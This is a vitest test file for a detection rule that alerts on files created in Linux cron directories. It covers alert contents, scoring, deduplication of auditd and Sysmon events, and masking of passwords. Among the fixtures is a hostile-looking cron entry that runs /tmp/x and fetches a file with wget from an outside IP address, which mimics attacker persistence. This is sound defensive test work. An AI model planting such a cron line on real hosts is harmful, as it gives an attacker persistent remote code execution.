import { describe, expect, test } from 'vitest';
import { hours } from '../../src/core/duration.ts';
import { addAlert, added, appended, scoresOf } from './cron-alerts.ts';
import { outcome, process } from './events.ts';
import { auditedFile, crontabLine, moved, started, sysmonFile } from './linux-events.ts';
import { lookAlikes, positives } from './rows/linux-add-files-to-crontab-dir.ts';
import { eventsOf, runRows } from './rows/run-rows.ts';

const JOB = '/etc/cron.d/job';
const SPOOL = '/var/spool/cron/crontabs';
const DAY = hours(24);

const scores = (...args: Parameters<typeof added>) => scoresOf(added(...args));

describe('what fires', () => {
  runRows(addAlert(), positives);
});

describe('what looks alike', () => {
  runRows(addAlert(), lookAlikes);
});

describe('a creation is no change of a table', () => {
  test.each([...positives, ...lookAlikes])('$row: $what', ({ events }) => {
    expect(appended(events())).toEqual([]);
  });
});

describe('what the alert says', () => {
  test('row 2: the path, the account, its session, and that cron reads the file', () => {
    const [alert] = added(eventsOf(positives, '2'));
    expect(alert).toMatchObject({
      name: 'SecOpsLinuxAddFilestoCrontabDir',
      tier: 'baseline',
      severity: 'medium',
      ruleIds: ['linux-add-files-to-crontab-dir/b1'],
      summary: '/etc/cron.d/nightly-sync was created on web01 by root with /usr/bin/bash',
      source: { host: 'web01', account: 'root' },
      details: {
        filePath: '/etc/cron.d/nightly-sync',
        fileOp: 'create',
        cronClass: 'dropin',
        loadable: true,
        loginUser: 'ubuntu',
        session: '0x7',
        writer: '/usr/bin/bash',
      },
    });
  });

  test('row 6: where the link leads', () => {
    const [alert] = added(eventsOf(positives, '6'));
    expect(alert?.details).toMatchObject({ fileOp: 'link', linkTarget: '/dev/shm/.x' });
  });

  test('row 7: whose table it is, where only crontab knows its path', () => {
    const [alert] = added(eventsOf(positives, '7'));
    expect(alert?.details).toMatchObject({ cronClass: 'spool', tableUser: 'nobody' });
    expect(alert?.details).not.toHaveProperty('filePath');
    expect(alert?.summary).toBe(
      'the crontab of nobody was created on web01 by nobody with crontab',
    );
  });

  test('look-alike 7: the temporary file is no evidence', () => {
    const [alert] = added(eventsOf(lookAlikes, '7'));
    expect(alert?.evidence.map(({ text }) => text)).toEqual([
      `file rename ${SPOOL}/tmp.ujxoRS to ${SPOOL}/alice by /usr/bin/crontab`,
    ]);
  });

  test('a name that Debian passes over is told, and so is a file in a container', () => {
    expect(added([auditedFile('/etc/cron.d/has.dot')])[0]).toMatchObject({
      score: 30,
      details: { loadable: 'not by Debian' },
    });
    expect(added([auditedFile(`/proc/7/root${JOB}`)])[0]?.details['containerRoot']).toBe(
      '/proc/7/root',
    );
  });

  test('the job, what it loads, and that it runs all the time', () => {
    const commandLine = `sh -c echo "* * * * * root /tmp/x; wget http://203.0.113.9/x" > ${JOB}`;
    const [alert] = added([auditedFile(JOB, { image: '/usr/bin/dash', commandLine })]);
    expect(alert?.details['cronEntry']).toBe('* * * * * root /tmp/x; wget http://203.0.113.9/x');
    expect(alert?.reasons.map(({ points }) => points)).toEqual([30, 15, 20, 10]);
  });

  test('a policy of cron ranks lower', () => {
    expect(scores([auditedFile('/etc/cron.allow')])).toEqual([20]);
  });

  test('the service may stand among the ancestors', () => {
    const shell = started('/usr/bin/bash', 'bash', {
      pid: 4131,
      parentImage: '/usr/sbin/nginx',
      atMs: -10,
    });
    expect(scores([shell, auditedFile(JOB)])).toEqual([55]);
  });

  test('no secret of a command line', () => {
    const commandLine = `sh -c echo "@daily root x --password S3cret-pw" > ${JOB}`;
    const events = [
      started('/usr/bin/dash', commandLine, { pid: 4131, logonId: '0x7', atMs: -5 }),
      process('schtasks /create /tn x /ru u /rp S3cret-pw', {
        ...{ host: 'web01' },
        logonId: '0x7',
        atMs: -10,
      }),
      auditedFile(JOB, { image: '/usr/bin/dash', commandLine, atMs: 1 }),
    ];
    const alerts = added(events);
    expect(alerts[0]?.before.chain).toHaveLength(1);
    expect(alerts[0]?.before.session).toHaveLength(1);
    expect(JSON.stringify(alerts)).not.toContain('S3cret-pw');
    expect(alerts[0]?.details['commandLine']).toContain('--password ***');
  });
});

describe('one table is one alert', () => {
  test('auditd and Sysmon within ten seconds', () => {
    const evidence = (gapMs: number) =>
      added([auditedFile(JOB), sysmonFile(JOB, '/usr/bin/bash', { atMs: gapMs })]).map(
        (alert) => alert.evidence.length,
      );
    expect(evidence(10_000)).toEqual([2]);
    expect(evidence(10_001)).toEqual([1, 1]);
  });

  test('the file of a first table and the line of crontab', () => {
    const events = [
      crontabLine('root', 'CMD', '/x', { atMs: -DAY }),
      moved(`${SPOOL}/alice`, `${SPOOL}/tmp.QvY3bN`, { image: '/usr/bin/crontab', user: 'alice' }),
      crontabLine('alice', 'REPLACE', 'alice', { atMs: 40 }),
    ];
    const [alert, ...others] = added(events);
    expect(others).toEqual([]);
    expect(alert?.ruleIds).toEqual([
      'linux-add-files-to-crontab-dir/b1',
      'linux-add-files-to-crontab-dir/b2',
    ]);
    expect(appended(events)).toEqual([]);
  });

  test('a file under a passing name and the name it is moved to', () => {
    const passing = '/etc/cron.d/job-new';
    const [alert, ...others] = added([auditedFile(passing), moved(JOB, passing, { atMs: 5 })]);
    expect(others).toEqual([]);
    expect(alert?.details).toMatchObject({ filePath: JOB, fileOp: 'rename' });
    expect(alert?.evidence).toHaveLength(2);
  });

  test('two tables, or one of two hosts, are two', () => {
    expect(added([auditedFile(JOB), auditedFile('/etc/cron.daily/job')])).toHaveLength(2);
    expect(added([auditedFile(JOB), auditedFile(JOB, { host: 'web02' })])).toHaveLength(2);
  });
});

describe('a table that was there is not new', () => {
  const removed = (more = {}) => auditedFile(JOB, { op: 'delete', ...more });

  test('where its creator had just removed it', () => {
    const gap = (atMs: number) => [removed(), auditedFile(JOB, { atMs })];
    expect(scores(gap(5_000))).toEqual([]);
    expect(appended(gap(5_000))).toHaveLength(1);
    expect(scores(gap(5_001))).toEqual([30]);
    expect(appended(gap(5_001))).toEqual([]);
  });

  test('but is, where another process removed it', () => {
    expect(scores([removed({ pid: 9 }), auditedFile(JOB, { atMs: 100 })])).toEqual([30]);
  });

  test('where a move went over it', () => {
    expect(scores([moved(JOB, '/tmp/x', { isReplacement: true })])).toEqual([]);
    expect(scores([moved(JOB, '/tmp/x', { isReplacement: undefined })])).toEqual([30]);
  });

  test('where Sysmon reports a file older than ten seconds', () => {
    const aged = (ageMs: number | undefined) => [sysmonFile(JOB, '/usr/bin/cp', { ageMs })];
    expect([undefined, 10_000, 10_001].map((ageMs) => scores(aged(ageMs)))).toEqual([
      [30],
      [30],
      [],
    ]);
  });

  test('where the file shows it, although crontab never named it before', () => {
    const events = [
      crontabLine('root', 'CMD', '/x', { atMs: -DAY }),
      moved(`${SPOOL}/alice`, `${SPOOL}/tmp.QvY3bN`, { isReplacement: true }),
      crontabLine('alice', 'REPLACE', 'alice', { atMs: 40 }),
    ];
    expect(scores(events)).toEqual([]);
    expect(appended(events)).toHaveLength(1);
  });

  test('where the cron log of the host does not go back far enough', () => {
    const logged = (ms: number) => [
      crontabLine('root', 'CMD', '/x', { atMs: -ms }),
      crontabLine('alice', 'REPLACE', 'alice'),
    ];
    expect(scores(logged(DAY - 1))).toEqual([]);
    expect(appended(logged(DAY - 1))).toHaveLength(1);
    expect(scores(logged(DAY))).toEqual([30]);
    expect(appended(logged(DAY))).toEqual([]);
    expect(scores(logged(hours(1)), { firstTableWarmupHours: 1 })).toEqual([30]);
    expect(scores(logged(hours(1) - 1), { firstTableWarmupHours: 1 })).toEqual([]);
  });

  test('a removal or a failed attempt alone says nothing', () => {
    expect(outcome([addAlert()], [removed()])).toEqual({
      alerts: [],
      notes: [],
    });
    expect(scores([auditedFile(JOB, { isSuccess: false })])).toEqual([]);
  });
});
